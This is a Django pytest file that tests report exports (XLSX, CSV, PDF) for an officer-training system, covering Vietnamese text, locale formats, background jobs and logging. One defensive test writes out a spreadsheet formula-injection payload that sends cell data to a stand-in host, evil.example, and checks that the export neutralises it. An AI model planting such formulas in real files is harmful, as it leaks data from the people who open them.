"""Exports: XLSX opened with openpyxl has the right cells and types, CSV keeps Vietnamese,
the PDF summary carries its text and charts, large exports go to the background, every
export is logged."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.conf import settings
from django.core.files.storage import storages
from django.urls import reverse
from openpyxl import load_workbook

from reports.models import ExportJob, ExportLog

pytestmark = pytest.mark.django_db


def export(client, user, url, language="en", **params):
    client.force_login(user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    response = client.get(url, params)
    assert response.status_code == 200, response
    return response, b"".join(response.streaming_content)


def test_dashboard_xlsx_has_title_header_types_and_frozen_header(client, scenario, manager):
    url = reverse("reports:manage")
    response, data = export(client, manager, url, export="xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert (
        'attachment; filename="van-phong-tinh-uy-a-bao-cao-20260615-1000.xlsx"'
        in response["Content-Disposition"]
    )
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Units", "Courses", "Completions by month", "Mark distribution"]
    sheet = book["Units"]
    title = sheet["A1"].value
    assert "Văn phòng Tỉnh ủy A" in title
    assert "no filters" in title
    assert "15/06/2026 10:00" in title
    assert sheet.freeze_panes == "A3"
    assert sheet.column_dimensions["A"].width == 40
    header = [cell.value for cell in sheet[2]]
    assert header[:6] == [
        "Unit",
        "Code",
        "Officers",
        "Assigned",
        "Completed",
        "Completion rate (%)",
    ]
    assert sheet["A2"].font.bold
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=3)}
    a1 = rows["Văn phòng Huyện ủy A1"]
    assert a1[1].value == "TA-H1"
    assert a1[2].value == 2 and isinstance(a1[2].value, int)
    assert a1[3].value == 4
    assert a1[5].value == 50 and isinstance(a1[5].value, int | float)
    assert a1[6].value == 66.7
    assert a1[9].value == 75.0
    assert a1[10].value == 0.67  # hours
    assert a1[11].value == 4.0
    own = rows["Văn phòng Tỉnh ủy A (own staff)"]
    assert own[9].value is None  # no mark: an empty cell, not a zero
    assert rows["Total"][2].value == 4

    months = book["Completions by month"]
    assert [c.value for c in months[2]] == ["Month", "Courses completed"]
    assert months.max_row == 2 + 12


def test_officer_record_xlsx_has_dates_as_dates(client, scenario, manager):
    officer = scenario.people["officer"].officer
    url = reverse("reports:manage_officer", args=[officer.pk])
    _response, data = export(client, manager, url, export="xlsx")
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Courses", "Attempts", "Certificates", "Assignments"]
    courses = {row[0].value: row for row in book["Courses"].iter_rows(min_row=3)}
    row = courses["An toàn thông tin cơ bản"]
    assert row[1].value == 1  # the first round
    completed = row[6]
    assert isinstance(completed.value, datetime.datetime)
    assert completed.value == datetime.datetime(2026, 5, 20, 10, 0)  # local time, as read
    assert completed.number_format == "DD/MM/YYYY HH:MM"
    assert row[8].value == 80.0
    due = next(book["Assignments"].iter_rows(min_row=3))[1]
    assert isinstance(due.value, datetime.datetime) and due.number_format == "DD/MM/YYYY"


def test_csv_is_utf8_with_bom_and_vietnamese_intact(client, scenario, manager):
    url = reverse("reports:manage_unit_officers", args=[scenario.org.district_a1.pk])
    response, data = export(client, manager, url, export="csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["Officer", "Employee code", "Unit"]
    names = {row[0]: row for row in rows[1:]}
    assert set(names) == {"Nguyễn Thị Lan", "Lê Thị Bình"}
    lan = names["Nguyễn Thị Lan"]
    assert lan[2] == "Văn phòng Huyện ủy A1"
    assert lan[4:7] == ["2", "2", "100.0"]


def test_csv_in_vietnamese_when_the_reader_reads_vietnamese(client, scenario, manager):
    url = reverse("reports:manage")
    _response, data = export(client, manager, url, "vi", export="csv", table="courses")
    text = data.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text)))
    assert header[0] == "Khóa học"
    assert "Bảng tính dữ liệu" in text


def test_cells_that_look_like_formulas_are_neutralised():
    from reports.exports import Column, Table, iter_csv

    table = Table("t", "T", [Column("Tên")], [['=HYPERLINK("x")'], ["+84 1"], ["Đặng"]])
    rows = list(csv.reader(io.StringIO("".join(iter_csv(table)))))
    assert [row[0] for row in rows[1:]] == ['\'=HYPERLINK("x")', "'+84 1", "Đặng"]


def test_pdf_summary_has_vietnamese_text_and_charts(client, scenario, manager):
    from pypdf import PdfReader

    url = reverse("reports:manage_unit", args=[scenario.org.province_a.pk])
    response, data = export(client, manager, url, "vi", export="pdf")
    assert response["Content-Type"] == "application/pdf"
    assert data.startswith(b"%PDF")
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    assert "Văn phòng Huyện ủy A1" in text
    assert "Hoàn thành theo đơn vị" in text  # the first chart's title, in Vietnamese
    assert "Bảng tính dữ liệu" in text


def test_every_export_is_logged(client, scenario, manager):
    url = reverse("reports:manage_unit", args=[scenario.org.province_a.pk])
    export(client, manager, url, export="csv", table="courses", course=scenario.course_x.pk)
    log = ExportLog.objects.get()
    assert log.user == manager
    assert (log.view, log.table, log.format, log.unit) == (
        "unit",
        "courses",
        "csv",
        scenario.org.province_a,
    )
    assert log.filters == {"course": str(scenario.course_x.pk)}
    assert log.scope_label == "Văn phòng Tỉnh ủy A"
    assert log.rows == 1
    assert not log.background


def test_large_exports_are_made_in_the_background(client, scenario, manager, settings):
    settings.REPORTS_EXPORT_INLINE_ROWS = 3
    client.force_login(manager)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    url = reverse("reports:manage_unit", args=[scenario.org.province_a.pk])
    response = client.get(url, {"export": "xlsx", "table": "officers"})
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("reports:export_job", args=[job.token])
    assert job.status == ExportJob.Status.DONE and job.rows == 4
    page = client.get(response["Location"])
    assert job.filename in page.content.decode()
    download = client.get(reverse("reports:export_download", args=[job.token]))
    assert download["Content-Disposition"].startswith("attachment")
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert storages["private"].exists(job.file.name)
    assert not storages["default"].public.exists(job.file.name)
    book = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    names = [row[0].value for row in book["Officers"].iter_rows(min_row=3)]
    assert sorted(names) == sorted(
        ["Nguyễn Thị Lan", "Lê Thị Bình", "Phạm Quốc Cường", "Phạm Văn Quang"]
    )
    assert job.log.background and job.log.rows == 4
    listing = client.get(reverse("reports:exports"))
    assert reverse("reports:export_download", args=[job.token]) in listing.content.decode()
    client.logout()
    anonymous = client.get(reverse("reports:export_download", args=[job.token]))
    assert anonymous.status_code == 302 and "/accounts/login/" in anonymous["Location"]
    assert client.get(f"/media/{job.file.name}").status_code == 404


def test_a_job_whose_scope_was_lost_fails_with_a_message(scenario, manager):
    from people.models import ManagerScope
    from reports.services import ExportSpec, run_export_job
    from tests.factories.reports import ExportLogFactory

    spec = ExportSpec(view="unit", format="csv", table="units", unit_id=scenario.org.province_a.pk)
    log = ExportLogFactory(user=manager, unit=scenario.org.province_a, background=True)
    job = ExportJob.objects.create(user=manager, log=log, request=spec.as_dict(), title="x")
    ManagerScope.objects.filter(user=manager).delete()
    manager._managed_units_cache = None
    job = run_export_job(job.pk)
    assert job.status == ExportJob.Status.FAILED
    assert job.error and not job.file


def test_records_export_has_one_row_per_enrolment(client, scenario, administrator):
    url = reverse("reports:manage")
    _response, data = export(client, administrator, url, export="csv", table="records")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][0] == "Unit"
    assert len(rows) - 1 == 8  # every enrolment of an active officer
    assert all(row[1] != "CB-A1-003" for row in rows[1:])  # not the inactive officer


def test_xlsx_memory_stays_flat_as_rows_grow():
    """Writing 20,000 rows costs no more memory than 2,000: rows are never held."""
    import tempfile
    import tracemalloc

    from reports.exports import Column, Table, write_xlsx

    def rows(n):
        for i in range(n):
            yield [f"Cán bộ {i}", i, 55.5, 3600, datetime.date(2026, 6, 1)]

    columns = [
        Column("Tên"),
        Column("Số", "int"),
        Column("Tỷ lệ", "percent"),
        Column("Giờ", "hours"),
        Column("Ngày", "date"),
    ]
    peaks = []
    for n in (2_000, 20_000):
        with tempfile.TemporaryFile() as handle:
            tracemalloc.start()
            write_xlsx(handle, [Table("t", "T", columns, rows(n))], heading="Thử")
            peaks.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
    assert peaks[1] < peaks[0] * 1.5


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_a_name_that_starts_like_a_formula_is_text_in_reports(
    client, scenario, manager, officer, fmt
):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
    officer.first_name, officer.last_name = formula, ""
    officer.save()
    url = reverse("reports:manage_unit", args=[scenario.org.province_a.pk])
    _response, data = export(client, manager, url, export=fmt, table="officers")
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
        assert "'" + formula in cells
        return
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'" + formula in [cell.value for cell in cells]
    numbers = [cell.value for cell in cells if cell.data_type == "n" and cell.value is not None]
    assert numbers  # figures stay numbers


# CSV in the Excel flavour of the reader's language -----------------------------------------


def test_the_excel_csv_in_vietnamese_has_semicolons_decimal_commas_and_day_first_dates(
    client, scenario, manager
):
    url = reverse("reports:manage_unit_officers", args=[scenario.org.district_a1.pk])
    response, data = export(client, manager, url, "vi", export="csv", csv="excel")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    names = {row[0]: row for row in rows[1:]}
    assert names["Nguyễn Thị Lan"][4:7] == ["2", "2", "100,0"]


def test_the_plain_csv_stays_comma_separated_with_decimal_points(client, scenario, manager):
    url = reverse("reports:manage_unit_officers", args=[scenario.org.district_a1.pk])
    _response, data = export(client, manager, url, "vi", export="csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    names = {row[0]: row for row in rows[1:]}
    assert names["Nguyễn Thị Lan"][4:7] == ["2", "2", "100.0"]


def test_csv_values_follow_the_flavour():
    from decimal import Decimal

    from reports.exports import PLAIN_CSV, csv_value, excel_flavour

    vi, en = excel_flavour("vi"), excel_flavour("en")
    day = datetime.date(2026, 3, 5)
    assert [csv_value("date", day, f) for f in (PLAIN_CSV, vi, en)] == [
        "2026-03-05",
        "05/03/2026",
        "05/03/2026",
    ]
    assert [csv_value("percent", 87.25, f) for f in (PLAIN_CSV, vi, en)] == ["87.2", "87,2", "87.2"]
    assert csv_value("text", Decimal("7.50"), vi) == "7,50"
    assert csv_value("text", "=1+1", vi) == "'=1+1"


def test_the_dashboard_offers_the_excel_csv(client, scenario, manager):
    client.force_login(manager)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "vi"
    page = client.get(reverse("reports:manage")).content.decode()
    assert "csv=excel" in page and "bản cho Excel" in page


def test_the_pdf_summary_writes_numbers_as_the_reader_does(client, scenario, manager):
    import re

    from pypdf import PdfReader

    url = reverse("reports:manage_unit", args=[scenario.org.province_a.pk])
    _response, data = export(client, manager, url, "vi", export="pdf")
    text = " ".join(PdfReader(io.BytesIO(data)).pages[0].extract_text().split())
    rates = re.findall(r"\(%\): (\S+)", text)
    assert rates and all("." not in rate for rate in rates)
    assert any("," in rate for rate in rates)
